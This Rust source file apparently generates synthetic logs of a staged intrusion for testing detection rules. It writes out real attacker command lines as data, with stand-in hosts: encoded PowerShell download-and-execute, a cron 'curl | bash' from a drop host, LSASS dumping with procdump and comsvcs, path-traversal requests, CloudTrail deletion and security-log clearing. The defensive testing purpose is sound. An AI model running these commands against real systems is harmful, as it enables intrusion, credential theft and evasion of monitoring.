//! What an intruder does to the fleet, step by step, and which rules must tell of it.
//!
//! It is one story: a sprayed password opens the remote desktop gateway, a document runs a download
//! on a workstation, its memory gives up credentials, a service goes to the file server; beside it a
//! guessed SSH password, a scan of the shop, a job in a crontab, and the cloud account. Nothing here
//! works against anybody: the commands are those that reports describe, the addresses lead nowhere.

use event::Timestamp;
use serde_json::{Value, json};

use crate::aws::{self, Call, Caller};
use crate::fleet::{self, AWS_ACCOUNT, BASTION, DC, FILES, GATEWAY, Host, WEB, WORKSTATIONS};
use crate::linux::{self, AUTHPRIV, CRON, INFO};
use crate::web::{self, Request};
use crate::windows::{
    self, CMD, EXPLORER, LSASS, POWERSHELL_EXE, ProcessId, Program, RUNDLL32, SCHTASKS,
    SERVICES_EXE, Start, WEVTUTIL, WHOAMI, WINWORD,
};
use crate::windows_habits::{self as habits, Logon};
use crate::world::{MS, SECOND, World};
use crate::{Settings, Source};

/// An attack that was staged.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Staged {
    /// What it is, in a line.
    pub title: &'static str,
    /// The ATT&CK techniques it uses.
    pub techniques: &'static [&'static str],
    /// Whose logs tell of it.
    pub source: Source,
    /// The time of its first event.
    pub starts_at: Timestamp,
    /// The time of its last event.
    pub ends_at: Timestamp,
    /// Ids of the rules of `detections/` that all must fire. It is found if one of them does.
    pub expected_rules: &'static [&'static str],
}

struct Attack {
    title: &'static str,
    techniques: &'static [&'static str],
    source: Source,
    expected_rules: &'static [&'static str],
    act: fn(&mut World, Timestamp),
}

/// In the order in which they begin.
const ATTACKS: &[Attack] = &[
    Attack {
        title: "One password tried on every account, until one opened the remote desktop gateway",
        techniques: &["T1110.003", "T1078.002"],
        source: Source::Windows,
        expected_rules: &["98e4bb1c-4a8b-4945-89b0-87743ba46580"],
        act: spray,
    },
    Attack {
        title: "A document ran encoded PowerShell that downloads and runs a script",
        techniques: &["T1566.001", "T1204.002", "T1059.001", "T1105"],
        source: Source::Windows,
        expected_rules: &[
            "c2601881-0eeb-4cf6-b24c-c29d1c1f014d",
            "eae04322-b1cd-4e8c-8ec7-bc706199b63a",
            "96129ef7-f377-4088-a336-234ae387018a",
            "374f0b67-8346-4749-a0f7-d2d45d61d0dd",
        ],
        act: download,
    },
    Attack {
        title: "SSH passwords guessed until one was right",
        techniques: &["T1110.001", "T1021.004"],
        source: Source::Linux,
        expected_rules: &[
            "dee94571-e5bc-47cc-977c-63c2e77f9106",
            "a9ddfc86-b2fe-4f96-84d9-fc2c21d24c7a",
        ],
        act: ssh,
    },
    Attack {
        title: "The shop was scanned, and asked for files outside of it",
        techniques: &["T1595.002", "T1190"],
        source: Source::Web,
        expected_rules: &[
            "42831a40-f66f-499c-86f6-f81ecdedae55",
            "624283c9-7229-4031-8d89-06e49d7f86c4",
            "e2e3050d-6552-4ea4-ab82-01ca2655ae6d",
        ],
        act: scan,
    },
    Attack {
        title: "Credentials dumped from the memory of LSASS",
        techniques: &["T1003.001"],
        source: Source::Windows,
        expected_rules: &[
            "c77171c1-116a-4cbc-a59b-5b3d08dc01c6",
            "5c3acf46-0fde-4d15-beaf-e2fbf98464fa",
            "de5a6b8a-6b54-438e-b29b-967120a28657",
        ],
        act: dump,
    },
    Attack {
        title: "A job in the web server's crontab that runs what it downloads",
        techniques: &["T1053.003", "T1105"],
        source: Source::Linux,
        expected_rules: &["e353b27a-d4a6-4f57-a425-70badb97af9d"],
        act: crontab,
    },
    Attack {
        title: "A new service on the file server, installed from a workstation",
        techniques: &["T1021.002", "T1569.002", "T1543.003"],
        source: Source::Windows,
        expected_rules: &[
            "a6284287-9b44-4e16-9304-90bfb58e6c31",
            "88df3352-6861-47c0-9a96-5a44155c91d6",
            "7141d90a-6ec0-4d01-ad5e-70c9c22e31e1",
        ],
        act: lateral,
    },
    Attack {
        title: "An access key made for another user, with an administrator's rights",
        techniques: &["T1098.001", "T1098.003"],
        source: Source::Aws,
        expected_rules: &[
            "46184281-bbe6-4536-aff6-a63e3f41ff26",
            "15823c27-9916-4514-a76b-7b9c05e5f323",
        ],
        act: access_key,
    },
    Attack {
        title: "CloudTrail logging stopped",
        techniques: &["T1562.008"],
        source: Source::Aws,
        expected_rules: &["12bd6118-3ad9-4e49-8881-7f2f903a9ef5"],
        act: stop_trail,
    },
    Attack {
        title: "A way back in, and the security log cleared",
        techniques: &["T1053.005", "T1547.001", "T1070.001"],
        source: Source::Windows,
        expected_rules: &[
            "7f38ab2e-7f8c-4c47-838b-627fc16fadd8",
            "43ee7bf6-5b30-48bd-bcb2-9a9afd6aa62a",
            "5b8ad871-8092-454e-ab6d-cc3dada98248",
            "01cd5874-23dc-4dbd-b733-5832081ece16",
        ],
        act: stay,
    },
];

/// Whence the intruder comes.
const INTRUDER: &str = "198.51.100.23";
/// Whence SSH and the shop are attacked: rented machines.
const RENTED: [&str; 2] = ["198.51.100.31", "198.51.100.42"];
/// Where the intruder's files are.
const DROP: (&str, &str) = ("cdn.fastpatch.test", "198.51.100.50");
/// The workstation that falls.
const FALLEN: Host = WORKSTATIONS[2];

/// Stages every attack whose source sends, evenly over the time there is.
pub(crate) fn stage(world: &mut World, settings: &Settings) -> Vec<Staged> {
    let nanos = |time: std::time::Duration| i64::try_from(time.as_nanos()).unwrap_or(i64::MAX);
    let first = settings.start.plus_nanos(nanos(settings.attacks_after));
    let attacks: Vec<&Attack> =
        ATTACKS.iter().filter(|attack| !settings.without.contains(&attack.source)).collect();
    let gaps = attacks.len().saturating_sub(1).max(1) as i64;
    let step = nanos(settings.attacks_within) / gaps;
    let mut staged = Vec::new();
    for (number, attack) in (0_i64..).zip(attacks) {
        let at = first.plus_nanos(step.saturating_mul(number));
        let before = world.pending().len();
        (attack.act)(world, at);
        let times = world.pending().iter().skip(before).map(|event| event.time);
        staged.push(Staged {
            title: attack.title,
            techniques: attack.techniques,
            source: attack.source,
            starts_at: times.clone().min().unwrap_or(at),
            ends_at: times.max().unwrap_or(at),
            expected_rules: attack.expected_rules,
        });
    }
    staged
}

fn spray(world: &mut World, at: Timestamp) {
    let logon = Logon { kind: 3, workstation: "WIN-8K2PQ", address: INTRUDER };
    let victim = world.person_at(FALLEN);
    let mut at = at;
    let known = fleet::PEOPLE.iter().chain(&fleet::ADMINS).chain(&fleet::SERVICES);
    let names =
        known.map(|person| (person.login, true)).chain([("helpdesk", false), ("scan", false)]);
    for (name, known) in names.filter(|(name, _)| *name != victim.login) {
        habits::logon_failed(world, at, GATEWAY, name, known, logon);
        at = world.later(at.plus_nanos(80 * MS), 160);
    }
    habits::logged_on(world, at, GATEWAY, victim, logon);
}

fn download(world: &mut World, at: Timestamp) {
    let person = world.person_at(FALLEN);
    let user = windows::account(person);
    let script = format!(
        "$c=New-Object Net.WebClient;$c.Proxy=[Net.WebRequest]::GetSystemWebProxy();IEX $c.DownloadString('http://{}/a/inv.ps1')",
        DROP.0
    );
    let word = r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\Public\Downloads\Invoice 88213.docm""#;
    let start = Start {
        program: WINWORD,
        command_line: word,
        parent: EXPLORER,
        parent_command_line: r"C:\Windows\Explorer.EXE",
        person: Some(person),
        integrity: "Medium",
    };
    windows::process(world, at, FALLEN, start);
    let at = at.plus_nanos(600 * MS);
    let command_line =
        format!("powershell.exe -NoP -W Hidden -Exec Bypass -Enc {}", habits::encoded(&script));
    let start = Start {
        program: POWERSHELL_EXE,
        command_line: &command_line,
        parent: WINWORD,
        parent_command_line: word,
        ..start
    };
    let id = windows::process(world, at, FALLEN, start);
    let process = (&id, POWERSHELL_EXE.image, user.as_str());
    windows::script_block(world, at.plus_nanos(250 * MS), FALLEN, &script, "");
    habits::looked_up(world, at.plus_nanos(300 * MS), FALLEN, process, DROP);
    let to = (DROP.0, DROP.1, 80);
    habits::connected(world, at.plus_nanos(380 * MS), FALLEN, process, to);
    let path = format!(r"C:\Users\{}\AppData\Local\Temp\fp-update.exe", person.login);
    habits::created(world, at.plus_nanos(900 * MS), FALLEN, process, &path);
}

fn ssh(world: &mut World, at: Timestamp) {
    const NAMES: [&str; 6] = ["root", "admin", "backup", "deploy", "test", "backup"];
    let from = RENTED[0];
    let mut at = at;
    for _ in 0..26 {
        let (name, pid, port) = (world.one_of(&NAMES), world.rng.u32(1_000..60_000), world.port());
        let invalid = if matches!(name, "admin" | "test") { "invalid user " } else { "" };
        if !invalid.is_empty() {
            linux::sshd(
                world,
                at,
                BASTION,
                pid,
                &format!("Invalid user {name} from {from} port {port}"),
            );
        }
        let message = format!("Failed password for {invalid}{name} from {from} port {port} ssh2");
        linux::sshd(world, at, BASTION, pid, &message);
        at = world.later(at.plus_nanos(40 * MS), 120);
    }
    let (pid, port) = (world.rng.u32(1_000..60_000), world.port());
    let message = format!("Accepted password for backup from {from} port {port} ssh2");
    linux::sshd(world, at, BASTION, pid, &message);
    let message =
        "pam_unix(sshd:session): session opened for user backup(uid=1011) by backup(uid=0)";
    linux::sshd(world, at, BASTION, pid, message);
    let command = "/usr/bin/find /etc -name shadow -exec /bin/sh -c cat {} ;";
    linux::sudo(world, at.plus_nanos(SECOND), BASTION, "backup", "/home/backup", command);
}

fn scan(world: &mut World, at: Timestamp) {
    const FILES: [&str; 12] = [
        "admin",
        "backup",
        "config",
        "db",
        "debug",
        "old",
        "shell",
        "test",
        "upload",
        "api/v2",
        "server-status",
        "console",
    ];
    const ENDS: [&str; 4] = ["/", ".php", ".zip", ".bak"];
    let base = Request {
        client: RENTED[1],
        request: "GET /",
        status: 200,
        bytes: 18_400,
        referrer: "-",
        agent: "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)",
    };
    web::access(world, at, base);
    let mut at = at;
    for file in FILES {
        for end in ENDS {
            at = world.later(at.plus_nanos(10 * MS), 30);
            let request = format!("GET /{file}{end}");
            web::access(world, at, Request { request: &request, status: 404, bytes: 153, ..base });
        }
    }
    for (request, status) in [
        ("GET /images/../../../../etc/passwd", 400),
        ("GET /download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 200),
        ("GET /download?file=....//....//....//etc/shadow", 404),
    ] {
        at = at.plus_nanos(200 * MS);
        web::access(world, at, Request { request, status, bytes: 1_734, ..base });
    }
}

const PROCDUMP: Program = Program {
    image: r"C:\Users\Public\procdump64.exe",
    description: "Sysinternals process dump utility",
    company: "Sysinternals - www.sysinternals.com",
};

fn dump(world: &mut World, at: Timestamp) {
    const TRACE: &str = r"C:\Windows\SYSTEM32\ntdll.dll+9d604|C:\Windows\System32\KERNELBASE.dll+3261e|C:\Windows\SYSTEM32\dbgcore.DLL+6cc8|C:\Windows\SYSTEM32\dbgcore.DLL+10a8f";
    let person = world.person_at(FALLEN);
    let user = windows::account(person);
    let lsass = (LSASS.image, r"NT AUTHORITY\SYSTEM");
    let base = Start {
        program: PROCDUMP,
        command_line: r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp",
        parent: CMD,
        parent_command_line: r"cmd.exe /c C:\Users\Public\d.bat",
        person: Some(person),
        integrity: "High",
    };
    let id = windows::process(world, at, FALLEN, base);
    let process = (&id, PROCDUMP.image, user.as_str());
    habits::accessed(world, at.plus_nanos(120 * MS), FALLEN, process, lsass, ("0x1fffff", TRACE));
    habits::created(world, at.plus_nanos(200 * MS), FALLEN, process, r"C:\Users\Public\lsass.dmp");
    let at = at.plus_nanos(SECOND);
    let start = Start {
        program: RUNDLL32,
        command_line: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Users\Public\m.dmp full",
        ..base
    };
    let id = windows::process(world, at, FALLEN, start);
    let process = (&id, RUNDLL32.image, user.as_str());
    habits::accessed(world, at.plus_nanos(90 * MS), FALLEN, process, lsass, ("0x1fffff", TRACE));
}

fn crontab(world: &mut World, at: Timestamp) {
    let pid = Some(world.rng.u32(1_000..60_000));
    let opened = "pam_unix(cron:session): session opened for user www-data(uid=33) by (uid=0)";
    linux::line(world, at, WEB, (AUTHPRIV, INFO), ("CRON", pid), opened);
    let command = format!("(www-data) CMD (curl -fsSL http://{}/x/k.sh | bash)", DROP.0);
    linux::line(world, at.plus_nanos(2 * MS), WEB, (CRON, INFO), ("CRON", pid), &command);
    let closed = "pam_unix(cron:session): session closed for user www-data";
    linux::line(world, at.plus_nanos(SECOND), WEB, (AUTHPRIV, INFO), ("CRON", pid), closed);
}

const SERVICE: Program =
    Program { image: r"C:\Windows\kqzrvmtd.exe", description: "-", company: "-" };

fn lateral(world: &mut World, at: Timestamp) {
    let admin = fleet::ADMINS[1];
    let system = r"NT AUTHORITY\SYSTEM";
    let logon = Logon { kind: 3, workstation: FALLEN.name, address: FALLEN.ip };
    habits::logged_on(world, at, FILES, admin, logon);
    habits::special_privileges(world, at, FILES, admin);
    let at = at.plus_nanos(150 * MS);
    let id = ProcessId::new(world);
    habits::created(world, at, FILES, (&id, "System", system), SERVICE.image);
    let at = at.plus_nanos(200 * MS);
    let services = (&id, SERVICES_EXE.image, system);
    let key = r"HKLM\System\CurrentControlSet\Services\kqzr\ImagePath";
    habits::value_set(world, at, FILES, services, (key, r"%systemroot%\kqzrvmtd.exe"));
    let data = json!({
        "ServiceName": "kqzr",
        "ImagePath": r"%systemroot%\kqzrvmtd.exe",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    });
    windows::service_manager(world, at, FILES, 7045, data);
    let base = Start {
        program: SERVICE,
        command_line: r"C:\Windows\kqzrvmtd.exe",
        parent: SERVICES_EXE,
        parent_command_line: r"C:\Windows\system32\services.exe",
        person: None,
        integrity: "System",
    };
    windows::process(world, at.plus_nanos(120 * MS), FILES, base);
    let shell = Start {
        program: CMD,
        command_line: r"C:\Windows\system32\cmd.exe /c echo kqzr > \\.\pipe\kqzr",
        ..base
    };
    windows::process(world, at.plus_nanos(400 * MS), FILES, shell);
    let whoami = Start {
        program: WHOAMI,
        command_line: "whoami /all",
        parent: CMD,
        parent_command_line: "cmd.exe",
        ..base
    };
    windows::process(world, at.plus_nanos(900 * MS), FILES, whoami);
}

/// The intruder's calls with a stolen key.
fn stolen<'a>(service: &'a str, name: &'a str, request: Value) -> Call<'a> {
    Call {
        caller: Caller::User("ci-runner"),
        service,
        name,
        address: INTRUDER,
        agent: "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux lang/python#3.12.1",
        request,
        response: Value::Null,
        denied: false,
    }
}

fn access_key(world: &mut World, at: Timestamp) {
    let user = "svc-reporting";
    aws::call(world, at, stolen("sts", "GetCallerIdentity", Value::Null));
    let call = stolen("iam", "ListUsers", json!({ "maxItems": 200 }));
    aws::call(world, at.plus_nanos(300 * MS), call);
    let policy = "arn:aws:iam::aws:policy/AdministratorAccess";
    let call = stolen("iam", "AttachUserPolicy", json!({ "userName": user, "policyArn": policy }));
    aws::call(world, at.plus_nanos(700 * MS), call);
    let key = format!("AKIA{}", world.hex(16).to_uppercase());
    let call = Call {
        response: json!({ "accessKey": { "userName": user, "status": "Active", "accessKeyId": key } }),
        ..stolen("iam", "CreateAccessKey", json!({ "userName": user }))
    };
    aws::call(world, at.plus_nanos(1_100 * MS), call);
}

fn stop_trail(world: &mut World, at: Timestamp) {
    let trail = format!("arn:aws:cloudtrail:eu-west-1:{AWS_ACCOUNT}:trail/organisation-trail");
    aws::call(world, at, stolen("cloudtrail", "DescribeTrails", Value::Null));
    let call = stolen("cloudtrail", "StopLogging", json!({ "name": trail }));
    aws::call(world, at.plus_nanos(500 * MS), call);
    let call = stolen("cloudtrail", "DeleteTrail", json!({ "name": trail }));
    aws::call(world, at.plus_nanos(900 * MS), call);
}

fn stay(world: &mut World, at: Timestamp) {
    let person = world.person_at(FALLEN);
    let user = windows::account(person);
    let path = format!(r"C:\Users\{}\AppData\Local\Temp\fp-update.exe", person.login);
    let command_line =
        format!(r#"schtasks /create /f /tn "Font Update" /sc minute /mo 15 /tr "{path}""#);
    let base = Start {
        program: SCHTASKS,
        command_line: &command_line,
        parent: POWERSHELL_EXE,
        parent_command_line: "powershell.exe",
        person: Some(person),
        integrity: "Medium",
    };
    windows::process(world, at, FALLEN, base);
    let id = ProcessId::new(world);
    let sid = windows::sid(person);
    let key = format!(r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run\FontUpdate");
    let process = (&id, POWERSHELL_EXE.image, user.as_str());
    habits::value_set(world, at.plus_nanos(400 * MS), FALLEN, process, (&key, &path));
    let admin = fleet::ADMINS[1];
    let at = at.plus_nanos(900 * MS);
    let clear = Start {
        program: WEVTUTIL,
        command_line: "wevtutil.exe cl Security",
        parent: CMD,
        parent_command_line: "cmd.exe",
        person: Some(admin),
        integrity: "High",
    };
    windows::process(world, at, DC, clear);
    let data = json!({
        "SubjectUserSid": windows::sid(admin),
        "SubjectUserName": admin.login,
        "SubjectDomainName": fleet::NETBIOS,
        "SubjectLogonId": "0x2f1b04",
    });
    windows::security(world, at.plus_nanos(60 * MS), DC, 1102, data);
}
